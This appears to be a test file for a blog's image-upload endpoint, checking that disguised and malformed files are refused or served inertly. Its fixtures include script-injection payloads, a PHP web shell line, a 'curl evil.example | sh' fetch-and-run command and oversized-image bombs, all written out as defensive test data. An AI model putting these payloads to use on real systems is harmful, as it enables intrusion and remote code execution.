import { describe, expect, it } from 'vitest'
import { MAX_PICTURE_BYTES, MAX_PICTURE_FRAMES, type PictureStored } from '#shared/contracts/picture'
import { bytesOfText } from '#shared/domain/pictures/picture'
import type { ImageType } from '#shared/domain/pictures/image-type'
import { readPicture } from '#shared/domain/pictures/read-picture'
import * as small from '#shared/domain/pictures/small-pictures'
import { sha256Hex } from '../services/sha256.ts'
import { makeAccount } from '../testing/accounts.ts'
import { call } from '../testing/call.ts'
import { PICTURES, upload } from '../testing/pictures.ts'
import { PICTURES_WITH_POSITION } from '../testing/pictures-with-position.ts'

const send = async (form: FormData, headers?: Record<string, string>) =>
  call('/api/blog/images', { method: 'POST', body: form, headers: headers ?? (await makeAccount('editor')).headers })

const SCRIPT = '<script>alert(1)</script>'
const PAGE = `<!doctype html><html><body onload="alert(1)">${SCRIPT}</body></html>`
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`

/** Files of other types with the name and type of a picture. */
const DISGUISED: Record<string, string> = {
  page: PAGE,
  'page behind blanks': `\r\n\r\n   ${PAGE}`,
  'page behind a byte order mark': `\xef\xbb\xbf${PAGE}`,
  'page behind a comment': `<!-- \x89PNG -->${PAGE}`,
  'page behind half a PNG': `\x89PNG${PAGE}`,
  'page behind half a GIF': `GIF8${PAGE}`,
  'page behind half a WebP': `RIFF\x24\0\0\0WEB${PAGE}`,
  drawing: DRAWING,
  'drawing with a declaration': `<?xml version="1.0"?><!DOCTYPE svg>${DRAWING}`,
  'drawing in UTF-16': `\xff\xfe${[...DRAWING].map((one) => `${one}\0`).join('')}`,
  'packed drawing': '\x1f\x8b\x08\0\0\0\0\0\0\x03svgz',
  'XML with a style sheet': '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,x"?><a/>',
  script: 'alert(1)//',
  'script module': 'export default fetch("/api/auth/me")',
  'style sheet': '@import "https://evil.example/x.css"; *{background:url(//evil.example)}',
  document: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
  'document behind blanks': `${' '.repeat(500)}%PDF-1.4`,
  archive: 'PK\x03\x04\x14\0\0\0\x08\0evil.html',
  'Java archive': 'PK\x03\x04META-INF/MANIFEST.MF',
  'Flash film': 'CWS\x09\x10\0\0\0',
  WebAssembly: '\0asm\x01\0\0\0',
  program: 'MZ\x90\0\x03\0\0\0',
  'Linux program': '\x7fELF\x02\x01\x01',
  'shell script': '#!/bin/sh\ncurl evil.example | sh',
  'PHP page': '<?php system($_GET["c"]); ?>',
  'web archive': 'MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>',
  shortcut: '[InternetShortcut]\nURL=javascript:alert(1)',
  TIFF: 'II*\0\x08\0\0\0',
  BMP: 'BM\x36\0\0\0\0\0\0\0',
  icon: '\0\0\x01\0\x01\0\x10\x10',
  'JPEG XL': '\xff\x0a\xfa\x7f',
  'HEIC photograph': '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
  film: '\0\0\0\x18ftypisom\0\0\0\0isommp42',
  'WebM film': '\x1aE\xdf\xa3webm',
  sound: 'RIFF\x24\0\0\0WAVEfmt ',
  nothing: '',
  'one byte': 'x',
  JSON: '{"$schema":"javascript:alert(1)"}',
}

/** Valid headers with other content inside or after them, truncated, or with too many pixels. */
const HOSTILE_PICTURES: Record<string, string> = {}
for (const [kind, draw] of Object.entries(PICTURES)) {
  for (const [what, rest] of Object.entries({
    page: PAGE,
    drawing: DRAWING,
    script: '=1;alert(1)//',
    archive: 'PK\x03\x04',
  }))
    HOSTILE_PICTURES[`${kind} with ${what} behind it`] = `${draw(30, 20)}${rest}`
  HOSTILE_PICTURES[`${kind} cut after its mark`] = draw(30, 20).slice(0, kind === 'gif' ? 8 : 14)
  HOSTILE_PICTURES[`${kind} of 16,000 by 16,000`] = draw(16_000, 16_000)
  HOSTILE_PICTURES[`${kind} of no width`] = kind === 'webp' ? draw(30, 20).slice(0, 20) : draw(0, 20)
}
HOSTILE_PICTURES['gif whose size is the start of a comment'] = 'GIF89a/*\0\0\0*/=1;alert(1)//'
HOSTILE_PICTURES['png of four thousand million squared'] = PICTURES['png']?.(0xffffffff, 0xffffffff) ?? ''
HOSTILE_PICTURES['gif of 1 by 1 with a frame of 65,535 by 65,535'] = small.gif(1, 1, small.gifFrame(65_535, 65_535))
HOSTILE_PICTURES['png of 1 by 1 with a frame of 16,000 by 16,000'] = small.png(1, 1, small.pngFrame(16_000, 16_000))
HOSTILE_PICTURES['webp of 1 by 1 with a frame of 16,000 by 16,000'] = small.webpOf(
  small.webpCanvas(1, 1),
  small.webpFrame(16_000, 16_000, small.webpLossy(1, 1)),
)
HOSTILE_PICTURES['jpeg of 1 by 1 with a frame of 16,000 by 16,000'] = small.jpeg(1, 1, small.jpegFrame(16_000, 16_000))
HOSTILE_PICTURES['avif of 30 by 20 with a film of 16,000 by 16,000'] = small.avifMoving(16_000, 16_000, 2)
HOSTILE_PICTURES['gif of 1001 frames'] = small.gif(1, 1, small.gifFrame(1, 1).repeat(MAX_PICTURE_FRAMES + 1))
HOSTILE_PICTURES['gif of 500 frames of a million pixels'] = small.gif(
  1000,
  1000,
  small.gifFrame(1000, 1000).repeat(500),
)

const SAFE_TYPE = /^image\/(?:jpeg|png|webp|avif|gif)$/

describe('POST /api/blog/images', () => {
  it.each(Object.entries(PICTURES))('keeps a %s and shows it as what it is', async (kind, draw) => {
    const content = draw(300, 200)
    const response = await send(upload(content, 'evil.html', 'text/html'))
    expect(response.status).toBe(201)
    const { url } = await response.json<PictureStored>()
    expect(url).toMatch(/^\/images\/[0-9a-f]{64}$/)
    const shown = await call(url)
    expect([shown.status, shown.headers.get('content-type')]).toEqual([200, `image/${kind}`])
    expect(await shown.bytes()).toEqual(bytesOfText(content))
  })

  it('stores the same picture once', async () => {
    const form = () => upload(PICTURES['png']?.(4, 4) ?? '')
    const urls = [await send(form()), await send(form())].map((one) => one.json<PictureStored>())
    const [first, second] = await Promise.all(urls)
    expect(first).toEqual(second)
  })

  it.each(Object.entries(PICTURES_WITH_POSITION))('stores a %s without its position', async (kind, base64) => {
    const content = bytesOfText(atob(base64))
    const textOf = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes)
    expect(textOf(content)).toContain('GPSMARK')
    const { url } = await (await send(upload(content))).json<PictureStored>()
    const stored = new Uint8Array(await (await call(url)).arrayBuffer())
    expect(textOf(stored)).not.toMatch(/GPSMARK|xmpmeta/)
    // The position is a directory of its own, named by the tag 0x8825.
    expect(textOf(stored)).not.toMatch(/MM\0\*[^]*\x88\x25|II\*\0[^]*\x25\x88/)
    expect(textOf(stored)).toContain({ png: 'iCCP', jpeg: 'ICC_PROFILE', webp: 'ICCP', avif: 'colrrICC' }[kind])
    if (kind !== 'avif') expect(textOf(stored)).toContain('\x01\x12\0\x03\0\0\0\x01\0\x06')
    expect(readPicture(stored, `image/${kind}` as ImageType)?.sizes[0]).toEqual({ width: 6, height: 4 })
    expect(url).toBe(`/images/${await sha256Hex(stored)}`)
  })

  it('is for editors and administrators, checked before the file', async () => {
    const form = () => upload('x')
    expect((await send(form(), {})).status).toBe(401)
    expect((await send(form(), { authorization: `Bearer ${'x'.repeat(43)}` })).status).toBe(401)
    expect((await send(form(), (await makeAccount('school')).headers)).status).toBe(403)
  })

  it('serves no active content from more than 60 hostile files', async () => {
    const { headers } = await makeAccount('editor')
    const names = [
      ['photo.png', 'image/png'],
      ['photo.svg', 'image/svg+xml'],
    ] as const
    let tried = 0
    for (const [name, type] of names) {
      for (const [what, content] of Object.entries(DISGUISED)) {
        const response = await send(upload(content, name, type), headers)
        expect([what, response.status]).toEqual([what, 422])
        expect(await response.json()).toMatchObject({ fields: { file: expect.stringMatching(/^Please/) } })
        tried++
      }
    }
    for (const [what, content] of Object.entries(HOSTILE_PICTURES)) {
      const response = await send(upload(content, 'photo.html', 'text/html'), headers)
      tried++
      expect([what, response.status]).toEqual([what, expect.toBeOneOf([201, 422])])
      if (response.status !== 201) continue
      const shown = await call((await response.json<PictureStored>()).url)
      expect(shown.headers.get('content-type')).toMatch(SAFE_TYPE)
      expect(shown.headers.get('x-content-type-options')).toBe('nosniff')
      expect(shown.headers.get('content-security-policy')).toMatch(/^default-src 'none';.*sandbox$/)
    }
    expect(tried).toBeGreaterThan(100)
  })

  it('refuses truncated pictures, too many pixels and too many frames', async () => {
    for (const what of Object.keys(HOSTILE_PICTURES).filter((name) => /cut|of no|of 16|four|frame|film/.test(name)))
      expect([what, (await send(upload(HOSTILE_PICTURES[what] ?? ''))).status]).toEqual([what, 422])
  })

  it('refuses a file of more than 5 MB, and a larger body before it is read', async () => {
    const png = bytesOfText(PICTURES['png']?.(4, 4) ?? '')
    const padded = (length: number) => {
      const bytes = new Uint8Array(length)
      bytes.set(png)
      return bytes
    }
    expect((await send(upload(padded(MAX_PICTURE_BYTES)))).status).toBe(201)
    for (const length of [MAX_PICTURE_BYTES + 1, 2 * MAX_PICTURE_BYTES]) {
      const response = await send(upload(padded(length)))
      expect(response.status).toBe(413)
      expect(await response.json()).toMatchObject({ code: 'too_large', error: expect.stringContaining('5 MB') })
    }
  })

  it('reports a body that is not a form or has no file', async () => {
    const { headers } = await makeAccount('editor')
    const json = await call('/api/blog/images', { body: { file: 'x' }, headers })
    expect([json.status, (await json.json<{ code: string }>()).code]).toEqual([415, 'not_a_form'])
    const cut = await call('/api/blog/images', {
      body: '--a\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n\x89PNG',
      headers: { ...headers, 'content-type': 'multipart/form-data; boundary=a' },
    })
    expect(cut.status).toBe(415)
    const text = new FormData()
    text.set('file', 'no file')
    expect((await send(text, headers)).status).toBe(422)
  })
})

it('accepts a long post, and refuses one beyond the limit before it is read', async () => {
  const { headers } = await makeAccount('editor')
  const post = (body: string) => call('/api/blog', { body: { title: `Long ${crypto.randomUUID()}`, body }, headers })
  expect((await post('ü'.repeat(100_000))).status).toBe(201)
  expect((await post('x'.repeat(100_001))).status).toBe(422)
  expect((await post('x'.repeat(700_000))).status).toBe(413)
})
